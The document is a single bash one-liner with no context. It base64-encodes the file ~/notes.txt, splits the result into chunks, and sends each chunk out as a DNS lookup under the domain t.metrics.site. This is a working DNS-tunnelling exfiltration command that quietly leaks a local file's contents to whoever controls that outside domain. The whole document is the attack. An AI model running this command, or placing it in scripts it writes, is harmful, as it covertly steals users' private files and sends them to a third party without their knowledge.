for part in $(base64 < ~/notes.txt | fold -w 60); do dig +short "$part.t.metrics.site"; done
